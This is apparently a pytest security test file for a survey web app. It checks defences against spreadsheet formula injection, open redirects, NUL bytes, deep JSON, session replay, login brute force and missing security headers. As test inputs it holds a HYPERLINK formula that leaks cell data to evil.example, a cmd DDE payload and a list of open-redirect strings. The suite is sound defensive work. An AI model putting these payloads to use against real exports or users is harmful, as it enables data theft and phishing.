"""What an attacker tried on main, each now refused: formula injection in the exports, open
redirects, NUL bytes and deep JSON, session replay, account guessing and small leaks."""

from __future__ import annotations

import csv
import io
import json
import re
from urllib.parse import urljoin, urlsplit

import pytest
from helpers import bearer, cast, csrf_from

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def sign_in(client, username, password="correct horse battery", next_=None, **kwargs):
    page = client.get("/login", **kwargs)
    query = {"next": next_} if next_ is not None else None
    data = {"csrf_token": csrf_from(page.text), "username": username, "password": password}
    return client.post("/login", query_string=query, data=data, **kwargs)


# -- 1. formula injection in the exports ---------------------------------------------------


@pytest.fixture
def closed_with_formula_title(make, db, org):
    def build(title):
        campaign = make.campaign(org["first"], title=title)
        for card in make.ballots(campaign, 5):
            cast(db.session, card.id, {campaign.headline.id: "excellent"})
        make.close(campaign)
        return campaign

    return build


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_title_that_starts_like_a_formula_is_text_in_the_csv(
    db, closed_with_formula_title, start
):
    from survey.files import exports

    title = FORMULA if start == "=" else start + "cmd|' /C calc'!A0"
    campaign = closed_with_formula_title(title)
    text = exports.campaign_csv(db.session, campaign)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows[0][0] == "'" + title + "测评汇总表"  # the title row: campaign and form
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_a_title_that_starts_like_a_formula_is_a_string_cell_in_the_xlsx(
    db, closed_with_formula_title, start
):
    from openpyxl import load_workbook

    from survey.files import exports

    title = FORMULA if start == "=" else start + "SUM(1,2)"
    campaign = closed_with_formula_title(title)
    book = load_workbook(io.BytesIO(exports.campaign_xlsx(db.session, campaign)))
    cell = book["汇总"]["A1"]
    assert cell.value == "'" + title + "测评汇总表" and cell.data_type == "s"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row)


# -- 2. open redirect after sign-in ----------------------------------------------------------

OFF_SITE = [
    "////evil.example",
    "//evil.example/",
    "///evil.example",
    "https://evil.example/",
    "http:evil.example",
    "/\\evil.example",
    "\\/evil.example",
    "/\\/evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    " //evil.example",
    "/\u3000/evil.example",
    "/\u200b/evil.example",
    "javascript:alert(1)",
    "evil.example",
    "",
]


@pytest.mark.parametrize("target", OFF_SITE)
def test_next_never_leads_off_site(client, org, target):
    answer = sign_in(client, "secretary", next_=target)
    assert answer.status_code == 303
    location = answer.headers["Location"]
    assert urlsplit(urljoin("http://localhost/login", location)).netloc == "localhost"
    assert location.endswith("/staff/"), (target, location)


def test_next_keeps_a_path_on_this_site(client, org):
    answer = sign_in(client, "secretary", next_="/staff/polls/?year=2026")
    assert answer.status_code == 303 and answer.headers["Location"] == "/staff/polls/?year=2026"


# -- 3. NUL characters and deep JSON: 400, never 500 -----------------------------------------

ROUTE_ARGUMENT = re.compile(r"<(?:(\w+)(?:\([^)]*\))?:)?(\w+)>")


def routes(app):
    """(rule, method) for every route of the app and every method it answers."""
    for rule in app.url_map.iter_rules():
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            yield rule, method


def fill(rule, text: str) -> str:
    def value(match):
        return "1" if match.group(1) == "int" else text

    return ROUTE_ARGUMENT.sub(value, rule.rule)


def assert_refused_for_nul(answer, where):
    assert answer.status_code == 400, (where, answer.status_code)
    if answer.is_json:
        assert answer.get_json()["error"]["code"] == "nul_character", where
    else:
        assert 'data-reason="nul_character"' in answer.text, where


def test_nul_in_any_route_path_is_a_clear_400(app, client):
    tried = 0
    for rule, method in routes(app):
        if not any(m.group(1) != "int" for m in ROUTE_ARGUMENT.finditer(rule.rule)):
            continue
        for text in ("%00", "a%00b"):
            path = fill(rule, text)
            assert_refused_for_nul(client.open(path, method=method), (method, path))
            tried += 1
    assert tried > 10
    print(f'FIGURES nul_paths: {{"requests": {tried}, "server_errors": 0}}')


def test_nul_in_the_query_of_every_route_is_a_clear_400(app, client, org):
    sign_in(client, "reviewer")
    tried = 0
    for rule, method in routes(app):
        path = fill(rule, "x")
        for query in ("q=%00", "lang=%00", "next=/%00", "a%00=1"):
            answer = client.open(f"{path}?{query}", method=method)
            assert_refused_for_nul(answer, (method, path, query))
            tried += 1
    print(f'FIGURES nul_queries: {{"requests": {tried}, "server_errors": 0}}')


def test_nul_in_a_form_field_is_a_clear_400_even_without_csrf(app, client, org):
    sign_in(client, "reviewer")
    app.config["WTF_CSRF_ENABLED"] = False
    answer = client.post("/login", data={"username": "secre\x00tary", "password": "x"})
    assert_refused_for_nul(answer, "login")
    for rule, method in routes(app):
        if method in ("POST", "PUT", "PATCH", "DELETE"):
            path = fill(rule, "x")
            answer = client.open(path, method=method, data={"title": "a\x00b", "reason": "\x00"})
            assert_refused_for_nul(answer, (method, path))


def test_nul_in_a_login_name_is_refused_before_the_database(client, org, caplog):
    answer = sign_in(client, "reviewer\x00")
    assert_refused_for_nul(answer, "login")
    assert not [r for r in caplog.records if r.levelname == "ERROR"]


def test_nul_in_a_poll_reason_is_a_clear_400(app, client, make, org):
    from poll_helpers import answer, poll_campaign

    app.config["POLL_MIN_FILL_SECONDS"] = 0

    campaign = poll_campaign(make, org["first"])
    refused = answer(client, campaign.slug, "dissatisfied", reason="路灯\x00坏了")
    assert_refused_for_nul(refused, "poll")
    assert answer(client, campaign.slug, "dissatisfied", reason="路灯坏了").status_code == 303


@pytest.mark.parametrize(
    "body",
    [
        {"organisation_id": 1, "year": 2026, "kind": "member_review", "title": "a\x00b"},
        {"organisation_id": 1, "year": 2026, "kind": "member_review", "title\x00": "x"},
        {"questions": [{"key": "x", "prompt": "\x00"}]},
    ],
)
def test_nul_in_a_json_string_is_a_400_json_error(client, org, body):
    answer = client.post("/api/v1/campaigns", json=body, headers=bearer(org["reviewer"]))
    assert_refused_for_nul(answer, body)
    assert answer.get_json()["error"]["field"]


@pytest.mark.parametrize("depth", [1000, 30000])
def test_deeply_nested_json_is_a_400(app, client, make, org, depth):
    admin = make.user("admin", "admin")  # may create organisations: the body is read
    for path, method in (("/api/v1/campaigns", "POST"), ("/api/v1/organisations", "POST")):
        for body in ("[" * depth, "[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
            if len(body) > app.config["MAX_CONTENT_LENGTH"]:
                continue  # 413, as any body too large
            answer = client.open(
                path,
                method=method,
                data=body,
                content_type="application/json",
                headers=bearer(admin),
            )
            assert answer.status_code == 400 and answer.is_json, (path, depth)


def test_brackets_inside_json_strings_do_not_count_as_nesting():
    from survey.core.security import nests_too_deep

    assert not nests_too_deep(json.dumps({"title": "[" * 500, "n": ['\\"{' * 50]}))
    assert nests_too_deep("[" * 33 + "]" * 33)
    assert not nests_too_deep("[" * 32 + "]" * 32)


# -- 4. a session cookie copied before sign-out or a new password ----------------------------


def replay(app, cookie: str):
    thief = app.test_client()
    thief.set_cookie("session", cookie)
    return thief.get("/staff/")


def test_a_session_cookie_copied_before_sign_out_opens_nothing_after(app, client, org):
    sign_in(client, "secretary")
    copied = client.get_cookie("session").value
    assert replay(app, copied).status_code == 200  # the copy works while the session lives
    home = client.get("/staff/")
    assert client.post("/logout", data={"csrf_token": csrf_from(home.text)}).status_code == 303
    answer = replay(app, copied)
    assert answer.status_code == 302 and "/login" in answer.headers["Location"]


def test_sign_out_on_one_device_ends_the_others_too(app, client, org):
    sign_in(client, "secretary")
    other = app.test_client()
    sign_in(other, "secretary")
    other.post("/logout", data={"csrf_token": csrf_from(other.get("/staff/").text)})
    assert client.get("/staff/").status_code == 302


def test_a_new_password_ends_every_session(app, db, client, org):
    from survey.models import User

    sign_in(client, "secretary")
    copied = client.get_cookie("session").value
    user = db.session.get(User, org["secretary"].id)
    user.set_password("another horse battery")
    db.session.commit()
    assert replay(app, copied).status_code == 302
    assert client.get("/staff/").status_code == 302
    assert sign_in(client, "secretary", "another horse battery").status_code == 303
    assert client.get("/staff/").status_code == 200


# -- 5. guessing one account from many addresses; telling accounts apart by timing ----------


def from_address(i: int) -> dict:
    return {"environ_base": {"REMOTE_ADDR": f"203.0.113.{i}"}}


def without_csrf(html: str) -> str:
    return re.sub(r'<input[^>]*name="csrf_token"[^>]*>', "", html)


def lock_of(answer) -> str | None:
    found = re.search(r'data-lock="(\w+)"', answer.text)
    return found and found.group(1)


@pytest.mark.parametrize("username", ["secretary", "no-such-user"])
def test_five_wrong_passwords_lock_the_name_for_that_address_only(client, org, username):
    statuses = [
        sign_in(client, username, f"guess{i}", **from_address(1)).status_code for i in range(7)
    ]
    assert statuses == [401] * 5 + [429] * 2
    assert lock_of(sign_in(client, username, "guess", **from_address(1))) == "pair"
    elsewhere = sign_in(client, username, "guess", **from_address(2))
    assert elsewhere.status_code == 401  # another address is not held back


def test_the_owner_signs_in_from_another_address_while_a_stranger_is_locked(client, org):
    for i in range(8):
        sign_in(client, "secretary", f"guess{i}", **from_address(66))
    assert sign_in(client, "secretary", **from_address(66)).status_code == 429
    assert sign_in(client, "secretary", **from_address(7)).status_code == 303


def test_the_lock_page_says_the_rule(client, org):
    for i in range(5):
        sign_in(client, "secretary", f"guess{i}", **from_address(1))
    locked = sign_in(client, "secretary", **from_address(1))
    assert locked.status_code == 429 and lock_of(locked) == "pair"
    assert "5分钟内5次或一天内20次" in locked.text and "换用其他网络" in locked.text
    client.set_cookie("lang", "en")
    english = sign_in(client, "secretary", **from_address(1))
    assert "5 in 5 minutes or 20 in a day" in english.text


def test_guessing_one_account_from_many_addresses_locks_it_everywhere(client, org):
    statuses = [
        sign_in(client, "secretary", f"guess{i}", **from_address(i // 5)).status_code
        for i in range(30)
    ]
    assert statuses == [401] * 30  # six addresses, five each: none locked yet
    locked = sign_in(client, "secretary", **from_address(99))
    assert locked.status_code == 429 and lock_of(locked) == "account"


def test_the_right_password_during_the_lock_gets_the_same_refusal(client, org):
    for i in range(5):
        sign_in(client, "secretary", f"guess{i}", **from_address(50))
    wrong = sign_in(client, "secretary", "guess", **from_address(50))
    right = sign_in(client, "secretary", **from_address(50))
    assert wrong.status_code == right.status_code == 429
    assert without_csrf(wrong.text) == without_csrf(right.text)
    assert client.get("/staff/").status_code == 302
    assert sign_in(client, "reviewer", **from_address(50)).status_code == 303  # others unlocked


def test_the_owner_signs_in_from_the_same_address_after_a_short_wait(client, org, monkeypatch):
    import limits.storage.memory

    now = [1_000_000.0]
    monkeypatch.setattr(limits.storage.memory.time, "time", lambda: now[0])
    statuses = [
        sign_in(client, "secretary", "guess", **from_address(3)).status_code for _ in range(6)
    ]
    assert statuses == [401] * 5 + [429]
    now[0] += 4 * 60
    assert sign_in(client, "secretary", **from_address(3)).status_code == 429
    now[0] += 61
    assert sign_in(client, "secretary", **from_address(3)).status_code == 303


def test_twenty_a_day_from_one_address_lock_it_until_the_next_day(client, org, monkeypatch):
    import limits.storage.memory

    now = [1_000_000.0]
    monkeypatch.setattr(limits.storage.memory.time, "time", lambda: now[0])
    for _ in range(4):
        for _ in range(5):
            assert sign_in(client, "secretary", "guess", **from_address(4)).status_code == 401
        now[0] += 5 * 60 + 1
    assert sign_in(client, "secretary", **from_address(4)).status_code == 429
    assert sign_in(client, "secretary", **from_address(5)).status_code == 303


def test_a_successful_sign_in_clears_the_failures(app, client, org):
    for _ in range(4):
        sign_in(client, "secretary", "guess", **from_address(9))
    assert sign_in(client, "secretary", **from_address(9)).status_code == 303
    other = app.test_client()
    statuses = [
        sign_in(other, "secretary", "guess", **from_address(9)).status_code for _ in range(5)
    ]
    assert statuses == [401] * 5


def test_an_unknown_user_name_costs_a_password_hash_like_a_real_one(client, org, monkeypatch):
    """Timing is never asserted (tests never fail on timing): the work is counted instead."""
    from survey.views import auth

    calls = []
    real = auth.check_password_hash

    def counting(pwhash, password):
        calls.append(pwhash)
        return real(pwhash, password)

    monkeypatch.setattr(auth, "check_password_hash", counting)
    assert sign_in(client, "no-such-user", "guess").status_code == 401
    assert len(calls) == 1
    assert sign_in(client, "secretary", "guess").status_code == 401
    assert len(calls) == 2


# -- 6. small leaks: live position counts, cached staff pages, no CSP ---------------------------

CSP = (
    "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
    "object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
)
INLINE = [
    re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.I),  # a script body in the page
    re.compile(r"<style\b", re.I),
    re.compile(r"\sstyle\s*=", re.I),
    re.compile(r"\son[a-z]+\s*=", re.I),  # onclick=, onload=, …
    re.compile(r"javascript:", re.I),
]


@pytest.fixture
def every_page(app, make, db, org):
    """Paths of every kind of page, with the data each needs to show itself in full."""
    from poll_helpers import answer, poll_campaign

    from survey.core.security import ballot_token

    app.config["POLL_MIN_FILL_SECONDS"] = 0
    first = org["first"]
    draft = make.campaign(first, status="draft", title="草稿")
    make.ballots(draft, 2)
    live = make.campaign(first, title="进行中")
    card = make.ballots(live, 1)[0]
    closed = make.campaign(first, title="已结束")
    receipt = None
    for ballot in make.ballots(closed, 5):
        receipt = cast(db.session, ballot.id, {closed.headline.id: "excellent"})
    make.close(closed)
    draft_poll = poll_campaign(make, first, status="draft", year=2024)
    make.ballots(draft_poll, 2, "resident")
    poll = poll_campaign(make, first)
    assert answer(app.test_client(), poll.slug, "dissatisfied", reason="路灯").status_code == 303
    closed_poll = poll_campaign(make, first, year=2025)
    make.close(closed_poll)
    make.user("root", "admin")
    staff = "/staff/campaigns"
    appraisal_pages = member_appraisal_pages(make, db, first, draft)
    return appraisal_pages + [
        "/",
        "/b",
        "/login",
        f"/b/{ballot_token(card.id)}",
        f"/receipt/{receipt}",
        f"/p/{poll.slug}",
        "/staff/",
        "/staff/admin/",
        f"{staff}/new",
        f"{staff}/{live.id}",
        f"{staff}/{draft.id}/cards",
        f"{staff}/{live.id}/projector",
        f"{staff}/{live.id}/turnout.json",
        f"{staff}/{closed.id}/results",
        f"{staff}/{closed.id}/minutes",
        "/staff/polls/",
        f"/staff/polls/{poll.id}/poster",
        f"/staff/polls/{draft_poll.id}/codes",
        "/review/",
        f"/review/campaigns/{closed_poll.id}/complaints",
        f"/review/campaigns/{poll.id}/anomalies",
        "/ratings/",
        f"/ratings/committees/{org['committee'].id}",
        f"/ratings/branches/{first.id}",
        f"/ratings/branches/{first.id}/assessment/2026",
        "/ratings/seeds/000",
        "/nowhere",
        "/api/v1/openapi.json",
    ]


def member_appraisal_pages(make, db, branch, draft_review) -> list[str]:
    """The member appraisal's ballot (open), results, print, XLSX and the both-ballot cards."""
    from appraisal_helpers import roll

    from survey.core.security import ballot_token

    roll(make, branch, 6)
    draft = make.campaign(branch, status="draft", kind="member_appraisal", title="草稿评议")
    make.ballots(draft, 2)
    live = make.campaign(branch, kind="member_appraisal", title="进行中评议")
    (card,) = make.ballots(live, 1)
    closed = make.campaign(branch, kind="member_appraisal", title="已结束评议")
    for ballot in make.ballots(closed, 5):
        cast(db.session, ballot.id, {q.id: "competent" for q in closed.questions})
    make.close(closed)
    staff = "/staff/campaigns"
    return [
        f"/b/{ballot_token(card.id)}",
        f"{staff}/{live.id}",
        f"{staff}/{closed.id}",
        f"{staff}/{closed.id}/appraisal",
        f"{staff}/{closed.id}/appraisal/print",
        f"{staff}/{closed.id}/appraisal.xlsx",
        f"{staff}/{draft_review.id}/cards/both",
    ]


def test_every_page_is_not_stored_and_carries_a_strict_csp(client, every_page):
    sign_in(client, "root")
    for path in every_page:
        answer = client.get(path)
        assert answer.status_code < 500, path
        assert answer.headers["Content-Security-Policy"] == CSP, path
        assert "no-store" in answer.headers.get("Cache-Control", ""), path
        assert answer.headers["X-Frame-Options"] == "DENY", path
        assert answer.headers["X-Content-Type-Options"] == "nosniff", path


def test_pages_need_no_inline_script_or_style(app, client, every_page):
    sign_in(client, "root")
    for path in every_page:
        answer = (app.test_client() if path == "/login" else client).get(path)
        assert answer.status_code in (200, 404), (path, answer.status_code)
        if answer.mimetype == "text/html":
            found = [rule.pattern for rule in INLINE if rule.search(answer.text)]
            assert not found, (path, found)


def test_static_files_carry_the_csp_and_may_be_cached(client):
    answer = client.get("/static/style.css")
    assert answer.status_code == 200 and answer.headers["Content-Security-Policy"] == CSP
    assert "no-store" not in answer.headers.get("Cache-Control", "")
    answer.close()


def test_api_answers_and_refusals_are_not_stored(client, org):
    ok = client.get(f"/api/v1/organisations/{org['first'].id}", headers=bearer(org["reviewer"]))
    refused = client.get("/api/v1/organisations/1")
    for answer in (ok, refused):
        assert answer.headers["Cache-Control"] == "no-store"
        assert answer.headers["Content-Security-Policy"] == CSP


def test_position_counts_of_an_open_poll_stay_hidden_until_it_closes(app, client, make, org):
    from poll_helpers import CENTRE, answer, poll_campaign

    from survey.models import Organisation

    app.config["POLL_MIN_FILL_SECONDS"] = 0
    branch = make.session.get(Organisation, org["first"].id)
    branch.service_lat, branch.service_lon, branch.service_radius_m = *CENTRE, 1500
    make.session.commit()
    poll = poll_campaign(make, branch)
    for _ in range(3):
        position = {"lat": str(CENTRE[0]), "lon": str(CENTRE[1])}
        assert answer(app.test_client(), poll.slug, **position).status_code == 303
    sign_in(client, "reviewer")
    url = f"/review/campaigns/{poll.id}/anomalies?lang=en"
    page = client.get(url)
    assert page.status_code == 200
    assert "Inside the service area" not in page.text and "counted when it closes" in page.text
    make.close(poll)
    page = client.get(url)
    assert re.search(r"Inside the service area</th><td>3<", page.text)
